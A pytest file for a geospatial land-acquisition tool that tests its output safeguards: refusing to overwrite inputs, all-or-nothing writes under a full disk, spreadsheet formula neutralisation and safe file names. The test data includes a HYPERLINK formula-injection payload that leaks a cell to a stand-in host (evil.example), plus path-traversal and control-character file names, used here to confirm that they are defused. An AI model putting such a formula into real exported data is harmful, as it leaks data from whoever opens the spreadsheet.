"""Writing outputs: never over an input, all or nothing, no formula from data, safe names.

The attacks of issue 12 points 1–3 against the real command line and the
real files: an output onto each kind of input, a write cut short by a file
size limit (``ulimit -f``, as a full disk), and a hamlet named like a formula
in every table output.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import zipfile
from datetime import date
from pathlib import Path

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest

from geo.outputs import (
    OutputRefused,
    atomic_path,
    atomic_write,
    check_output,
    export_stem,
    safe_filename,
    spreadsheet_safe,
    spreadsheet_text,
)
from geo.selection import Selection
from tests.conftest import build_workspace, default_layers, sq

ROOT = Path(__file__).resolve().parents[1]
AS_OF = "20/11/2026"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&B5,"x")'


def run(*args, limit_kb: int | None = None) -> subprocess.CompletedProcess:
    """``python -m geo ARGS`` in a fresh process; with ``limit_kb``, under ``ulimit -f`` (a full disk)."""
    cmd = [sys.executable, "-m", "geo", *map(str, args)]
    if limit_kb is not None:
        cmd = ["bash", "-c", f'ulimit -f {limit_kb}; exec "$@"', "bash", *cmd]
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.run(cmd, cwd=ROOT, env=env, capture_output=True, text=True, timeout=300)


def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.is_file()}


# --------------------------------------------------------------------------- never over an input


@pytest.fixture
def every_kind(tmp_path: Path) -> Path:
    """A workspace whose inputs are GeoPackage, GeoJSON, CSV, XLSX and a shapefile, with workspace.toml."""
    layers = default_layers()
    ws = build_workspace(
        tmp_path / "ws",
        toml='[workspace]\nname = "Xã Thử"\n',
        grievances=[
            {
                "grievance_id": "G1",
                "received_date": "01/11/2026",
                "kind": "complaint",
                "topic": "area",
                "signatories": 2,
                "status": "received",
                "hamlet_id": "A",
            }
        ],
        stage_history=[{"household_id": "H1", "project_id": "P1", "stage": "handed_over", "date": "01/10/2026"}],
    )
    (ws / "households.csv").unlink()
    pd.DataFrame(layers["households"]).to_excel(ws / "households.xlsx", index=False)
    (ws / "parcels.gpkg").unlink()
    gpd.GeoDataFrame(pd.DataFrame(layers["parcels"]), geometry="geometry", crs="EPSG:9215").to_file(ws / "parcels.shp")
    (ws / "projects.csv").unlink()
    gpd.GeoDataFrame(
        pd.DataFrame(layers["projects"]).assign(geometry=[sq(0, 0, 500)]), geometry="geometry", crs="EPSG:9215"
    ).to_crs(4326).to_file(ws / "projects.geojson", driver="GeoJSON")
    return ws


@pytest.mark.parametrize(
    ("command", "target"),
    [
        ("export", "households.xlsx"),
        ("summary", "grievances.csv"),
        ("summary", "stage_history.csv"),
        ("hotspots", "hamlets.gpkg"),
        ("hotspots", "projects.geojson"),
        ("snapshot", "parcels.shp.png"),
        ("report", "bao_cao.docx"),
        ("export", "tong_hop.csv"),
    ],
)
def test_an_output_inside_the_workspace_is_refused_and_nothing_changes(every_kind, command, target):
    before = snapshot(every_kind)
    result = run(command, every_kind, "--out", every_kind / target, "--as-of", AS_OF)
    text = result.stdout + result.stderr
    assert result.returncode != 0, text
    assert "Traceback" not in text
    assert "thư mục dữ liệu" in text and "inside the workspace folder" in text
    assert "ket_qua" in text  # where to write instead
    assert snapshot(every_kind) == before


def test_a_link_outside_the_workspace_onto_an_input_is_refused(every_kind, tmp_path):
    link = tmp_path / "out" / "tong_hop.xlsx"
    link.parent.mkdir()
    link.symlink_to(every_kind / "households.xlsx")
    before = (every_kind / "households.xlsx").read_bytes()
    result = run("export", every_kind, "--out", link, "--as-of", AS_OF)
    assert result.returncode != 0 and "Traceback" not in result.stderr
    assert (every_kind / "households.xlsx").read_bytes() == before


def test_an_input_outside_the_workspace_folder_is_protected_too(tmp_path):
    outside = tmp_path / "shared" / "households.csv"
    outside.parent.mkdir()
    pd.DataFrame(default_layers()["households"]).to_csv(outside, index=False)
    inputs = {outside.resolve()}
    with pytest.raises(OutputRefused, match="input files"):
        check_output(outside, tmp_path / "ws", inputs)


def test_an_output_beside_the_workspace_is_written(every_kind, tmp_path):
    out = tmp_path / "ket_qua" / "tong_hop.xlsx"
    out.parent.mkdir()
    result = run("export", every_kind, "--out", out, "--as-of", AS_OF)
    assert result.returncode == 0, result.stderr
    assert openpyxl.load_workbook(out).sheetnames[0]


def test_a_folder_is_no_output(tmp_path):
    (tmp_path / "out.xlsx").mkdir()
    with pytest.raises(OutputRefused, match="folder"):
        check_output(tmp_path / "out.xlsx", tmp_path / "ws")


# --------------------------------------------------------------------------- all or nothing


def test_atomic_write_replaces_the_file_and_leaves_no_temporary_file(tmp_path):
    target = tmp_path / "a.csv"
    target.write_text("old")
    atomic_write(target, "new")
    assert target.read_text() == "new"
    assert [p.name for p in tmp_path.iterdir()] == ["a.csv"]


def test_atomic_write_through_a_link_replaces_the_linked_file(tmp_path):
    real = tmp_path / "real.csv"
    real.write_text("old")
    (tmp_path / "link.csv").symlink_to(real)
    atomic_write(tmp_path / "link.csv", "new")
    assert (tmp_path / "link.csv").is_symlink() and real.read_text() == "new"


def test_a_failed_writer_leaves_the_previous_file_and_no_temporary_file(tmp_path):
    target = tmp_path / "h.gpkg"
    target.write_bytes(b"previous")
    with pytest.raises(RuntimeError), atomic_path(target) as tmp:
        tmp.write_bytes(b"half")
        tmp.with_suffix(".gpkg-journal").write_bytes(b"journal")
        raise RuntimeError("disk full")
    assert target.read_bytes() == b"previous"
    assert [p.name for p in tmp_path.iterdir()] == ["h.gpkg"]


@pytest.fixture(scope="module")
def small_ws(tmp_path_factory) -> Path:
    return build_workspace(tmp_path_factory.mktemp("full") / "ws")


@pytest.mark.parametrize(
    ("command", "name"),
    [
        ("report", "bao_cao.docx"),
        ("snapshot", "ban_do.png"),
        ("export", "tong_hop.xlsx"),
    ],
)
def test_a_write_cut_short_by_a_full_disk_leaves_the_previous_file(small_ws, tmp_path, command, name):
    out = tmp_path / "ket_qua" / name
    out.parent.mkdir()
    first = run(command, small_ws, "--out", out, "--as-of", AS_OF)
    assert first.returncode == 0, first.stderr
    previous = out.read_bytes()
    limit = 4 if command == "export" else 50  # KiB: below each file's size
    assert len(previous) > limit * 1024
    cut = run(command, small_ws, "--out", out, "--as-of", "15/11/2026", limit_kb=limit)
    assert cut.returncode != 0
    assert "Traceback" not in cut.stderr and "Không ghi" in cut.stderr
    assert out.read_bytes() == previous
    assert [p.name for p in out.parent.iterdir()] == [name]


def test_a_write_cut_short_leaves_no_partial_new_file(small_ws, tmp_path):
    out = tmp_path / "bao_cao.docx"
    cut = run("report", small_ws, "--out", out, "--as-of", AS_OF, limit_kb=50)
    assert cut.returncode != 0
    assert list(tmp_path.iterdir()) == []


# --------------------------------------------------------------------------- no formulas from data


@pytest.fixture(scope="module")
def formula_ws(tmp_path_factory) -> Path:
    layers = default_layers()
    layers["hamlets"][0]["hamlet_name"] = FORMULA
    layers["hamlets"][1]["hamlet_id"] = "+B"
    layers["parcels"][2]["hamlet_id"] = "+B"
    layers["parcels"][3]["hamlet_id"] = "+B"
    return build_workspace(
        tmp_path_factory.mktemp("formula") / "ws", hamlets=layers["hamlets"], parcels=layers["parcels"]
    )


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_xlsx_writes_a_formula_like_name_as_text(formula_ws, tmp_path):
    out = tmp_path / "tong_hop.xlsx"
    assert run("export", formula_ws, "--out", out, "--as-of", AS_OF).returncode == 0
    with zipfile.ZipFile(out) as z:
        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in s or b"<f " in s for s in sheets)
    values = [c.value for row in openpyxl.load_workbook(out).worksheets[0].iter_rows() for c in row]
    assert FORMULA in values and "+B" in values


def test_xlsx_keeps_numbers_as_numbers(formula_ws, tmp_path):
    out = tmp_path / "tong_hop.xlsx"
    assert run("export", formula_ws, "--out", out, "--as-of", AS_OF).returncode == 0
    sheet = openpyxl.load_workbook(out).worksheets[0]
    row = next(r for r in sheet.iter_rows(values_only=True) if r[1] == FORMULA)
    assert isinstance(row[2], int) and isinstance(row[3], float)


@pytest.mark.parametrize(
    ("command", "name"),
    [
        ("summary", "s.csv"),
        ("export", "tong_hop.csv"),
        ("hotspots", "h.csv"),
    ],
)
def test_csv_outputs_neutralise_formula_cells(formula_ws, tmp_path, command, name):
    out = tmp_path / name
    result = run(command, formula_ws, "--out", out, "--as-of", AS_OF)
    assert result.returncode == 0, result.stderr
    cells = [c for row in _csv_cells(out.read_bytes()) for c in row]
    assert "'" + FORMULA in cells and "'+B" in cells
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)
    assert not any(c.startswith("-") and not c[1:].replace(".", "").isdigit() for c in cells)


def test_summary_csv_numbers_stay_plain(formula_ws, tmp_path):
    out = tmp_path / "s.csv"
    assert run("summary", formula_ws, "--out", out, "--as-of", AS_OF).returncode == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert rows[0]["hamlet_name"] == "'" + FORMULA and rows[0]["handover_pct"] == "50.00"


def test_dashboard_csv_downloads_neutralise_formula_cells(formula_ws):
    from dashboard.panels import summary_csvs
    from geo import analyse, load_workspace

    ws = load_workspace(formula_ws)
    summary = analyse(ws, Selection.make(as_of=AS_OF)).summary
    for data in summary_csvs(summary):
        cells = [c for row in _csv_cells(data) for c in row]
        assert "'" + FORMULA in cells and FORMULA not in cells


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_gets_an_apostrophe(start):
    assert spreadsheet_text(start + "1+1") == "'" + start + "1+1"


def test_numbers_and_plain_text_are_left_alone():
    frame = spreadsheet_safe(pd.DataFrame({"n": [-5, 3], "x": [-1.5, 2.0], "t": ["Thôn A", "-x"]}))
    assert frame["n"].tolist() == [-5, 3] and frame["x"].tolist() == [-1.5, 2.0]
    assert frame["t"].tolist() == ["Thôn A", "'-x"]


# --------------------------------------------------------------------------- file names


def test_a_project_id_cannot_climb_out_of_the_download_folder():
    name = safe_filename("DA-CCN/../../x")
    assert "/" not in name and ".." not in name and "\\" not in name
    assert name == "DA-CCN_x"


@pytest.mark.parametrize("text", ["..", "/", "C:\\Windows\\x", "\x1b]0;x\x07", "a\u202eb", "CON"])
def test_file_names_hold_only_letters_digits_dash_and_underscore(text):
    assert set(safe_filename(text)) <= set("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_")


def test_file_names_carry_every_filter_and_a_day_first_date():
    sel = Selection.make(
        project="DA-DT242", hamlets=["T01", "T02"], stages=["paid"], land_uses=["LUC"], as_of=date(2026, 11, 20)
    )
    assert export_stem(sel) == "DA-DT242_thon_T01-T02_buoc_paid_dat_LUC_20-11-2026"


def test_a_hamlet_report_does_not_overwrite_the_project_report():
    project = Selection.make(project="P1", as_of="20/11/2026")
    hamlet = Selection.make(project="P1", hamlets=["A"], as_of="20/11/2026")
    assert export_stem(project) != export_stem(hamlet)


def test_a_long_selection_keeps_its_date():
    sel = Selection.make(hamlets=[f"T{i:03d}" for i in range(200)], as_of="05/02/2026")
    stem = export_stem(sel)
    assert len(stem) <= 120 and stem.endswith("_05-02-2026")


@pytest.mark.parametrize("writer", ["write_summary", "write_report", "write_snapshot"])
def test_the_python_writers_refuse_the_workspace_folder_too(small_ws, writer):
    from geo import exports, load_workspace

    ws = load_workspace(small_ws)
    suffix = {"write_summary": ".xlsx", "write_report": ".docx", "write_snapshot": ".png"}[writer]
    before = snapshot(small_ws)
    with pytest.raises(OutputRefused, match="inside the workspace folder"):
        getattr(exports, writer)(small_ws / f"out{suffix}", ws)
    assert snapshot(small_ws) == before


def test_a_workspace_held_in_memory_has_no_folder_to_refuse(small_ws, tmp_path):
    from geo import assemble, load_workspace
    from geo.outputs import guard_output
    from geo.source import MemorySource

    from_folder = load_workspace(small_ws)
    layers = {name: getattr(from_folder, name) for name in ("hamlets", "parcels", "projects", "households")}
    ws = assemble(MemorySource(layers, canonical=True).read())
    assert ws.source.folder is None
    assert guard_output(small_ws / "out.xlsx", ws) == small_ws / "out.xlsx"
    with pytest.raises(OutputRefused, match="inside the workspace folder"):
        guard_output(small_ws / "out.xlsx", from_folder)
